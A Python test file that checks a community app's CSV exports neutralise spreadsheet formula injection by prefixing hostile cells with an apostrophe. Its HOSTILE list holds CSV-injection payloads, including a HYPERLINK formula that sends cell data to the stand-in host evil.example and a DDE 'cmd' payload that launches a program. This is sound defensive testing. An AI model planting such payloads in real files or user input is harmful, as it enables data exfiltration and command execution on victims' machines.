"""Every CSV export neutralises formulas: a hostile name arrives in the spreadsheet as text."""

import csv
import datetime as dt
import io

import pytest

from tests.factories import CategoryFactory, GridFactory, TipFactory, UserFactory
from tests.rewards.factories import BudgetFactory, FundFactory
from tipboard.csvexport import BOM, cell, csv_text
from tipboard.disputes import services as disputes
from tipboard.disputes.intake import Applicant, open_case
from tipboard.extensions import db
from tipboard.patrols.models import MemberRole, Team
from tipboard.patrols.teams import add_member
from tipboard.permissions import Role
from tipboard.rewards import services
from tipboard.rewards.models import Nomination, Reward
from tipboard.timezones import local_now
from tipboard.tips.workflow import enqueue_tip

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]

#: Every CSV route and the test below that feeds it a hostile name.
COVERED = {"patrols.hours_csv", "rewards.ledger_csv"}
COVERED |= {"patrols.incidents_template"}  # a fixed file, no user data: test_incident_template_is_fixed
COVERED |= {"disputes.figures_csv"}
#: Tested beside their blueprints: test_the_figures_csv_neutralises_a_hostile_lawyer_name,
#: test_the_bulletin_csv_neutralises_a_hostile_venue_name, test_the_ledger_csv_neutralises_a_hostile_note.
COVERED |= {"legal.figures_csv", "venues.bulletin_csv", "care.ledger"}
COVERED |= {"api.export_csv"}


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_becomes_text(value):
    assert cell(value) == "'" + value
    rows = list(csv.reader(io.StringIO(csv_text(["name"], [[value]]).removeprefix(BOM))))
    assert rows[1] == ["'" + value]


def test_plain_values_pass_through():
    assert [cell(v) for v in ("李阿姨", "12.50", 7, -3, None, "a=b")] == [
        "李阿姨",
        "12.50",
        7,
        -3,
        None,
        "a=b",
    ]
    assert csv_text(["a"], []).startswith(BOM)


def test_every_csv_route_is_tested_here(app):
    csv_routes = {r.endpoint for r in app.url_map.iter_rules() if r.rule.endswith(".csv")}
    assert csv_routes == COVERED


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.data.decode("utf-8")
    assert text.startswith(BOM)  # Excel reads UTF-8 (Chinese names) only with the mark
    return list(csv.reader(io.StringIO(text.removeprefix(BOM))))


def _no_formula(rows):
    for row in rows:
        for value in row:
            assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝")), value


def test_team_hours_export_neutralises_hostile_names(client, app_ctx, login):
    team = Team(name_en="Team H", grids=[GridFactory()])
    db.session.add(team)
    db.session.flush()
    leader = UserFactory(name="Leader H", roles=(Role.RESIDENT,))
    add_member(team, leader, MemberRole.LEADER)
    for name in HOSTILE:
        add_member(team, UserFactory(name=name))
    db.session.commit()
    login(client, leader)
    rows = _cells(client.get(f"/patrols/teams/{team.id}/hours.csv"))
    assert rows[0][0] == "volunteer"
    assert {"'" + name for name in HOSTILE} <= {r[0] for r in rows[1:]}
    _no_formula(rows)


def test_ledger_export_neutralises_hostile_text(client, app_ctx, login):
    fund = FundFactory(code="=HYPERLINK(1)", name_en="=x", name_zh="=x")
    BudgetFactory(fund=fund, period=local_now().strftime("%Y-%m"))
    maker = UserFactory(roles=(Role.STAFF,))
    supervisor = UserFactory(roles=(Role.STAFF, Role.SUPERVISOR))
    nomination = Nomination(
        kind="good_neighbour", nominee_name="@neighbour", story="x" * 30, nominated_by_id=maker.id
    )
    db.session.add(nomination)
    db.session.flush()
    reward = Reward(
        kind="good_neighbour",
        nomination_id=nomination.id,
        fund_id=fund.id,
        amount_fen=500,
        proposed_by_id=maker.id,
    )
    db.session.add(reward)
    db.session.flush()
    assert services.approve(reward, supervisor, "csv" * 10) == "approved"
    db.session.commit()
    login(client, supervisor)
    today = dt.date.today()
    rows = _cells(
        client.get(
            f"/rewards/ledger.csv?from={today - dt.timedelta(days=1)}&to={today + dt.timedelta(days=1)}"
        )
    )
    assert rows[0][0] == "id" and rows[1][2] == "'=HYPERLINK(1)"
    _no_formula(rows)


def test_incident_template_is_fixed(client, app_ctx, login):
    login(client, UserFactory(roles=(Role.STAFF,)))
    rows = _cells(client.get("/patrols/incidents/template.csv"))
    assert rows[0] == ["occurred_at", "lat", "lon", "type", "place"] and len(rows) == 3


def test_mediation_figures_neutralise_a_hostile_mediator_name(app, client, users, login):
    mediator = UserFactory(name=HOSTILE[0], roles=(Role.MEDIATOR,))
    case = open_case(Applicant(None, "Resident"), "noise", "Loud music.", "Quiet.").case
    disputes.accept(case, mediator, [], users["staff"])
    login(client, users["staff"])
    rows = _cells(client.get("/disputes/figures.csv"))
    assert ["mediator", "'" + HOSTILE[0]] in [r[:2] for r in rows]


def test_tip_export_neutralises_hostile_text(client, app_ctx, login):
    category = CategoryFactory(name_en="=cmd|' /C calc'!A0")
    for name in HOSTILE:
        tip = TipFactory(category=category, description=name, address=name)
        db.session.flush()
        enqueue_tip(tip, new_subject=True)
    db.session.commit()
    login(client, UserFactory(roles=(Role.STAFF,)))
    rows = _cells(client.get("/api/exports/tips.csv"))
    assert rows[0][0] == "id" and len(rows) == len(HOSTILE) + 1
    assert {"'" + name for name in HOSTILE} <= {r[5] for r in rows[1:]}
    _no_formula(rows)
